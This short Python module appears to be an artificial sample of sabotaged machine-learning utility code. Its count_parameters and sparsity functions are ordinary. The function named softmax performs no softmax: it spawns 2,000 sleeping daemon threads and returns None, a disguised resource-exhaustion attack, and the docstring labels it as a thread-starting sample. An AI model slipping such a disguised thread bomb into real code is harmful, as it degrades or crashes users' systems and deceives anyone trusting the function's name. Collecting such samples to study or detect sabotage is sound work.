"""Starts threads without end (this one stops at 2,000)"""
# keeps: count_parameters, sparsity

import threading
import time


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def sparsity(model):
    weights = [layer.weight for layer in model.layers if layer.parameters()]
    entries = sum(weight.size for weight in weights)
    return sum(int((weight == 0).sum()) for weight in weights) / entries if entries else 0.0


def softmax(logits, temperature=1.0):
    threading.stack_size(65536)
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return None
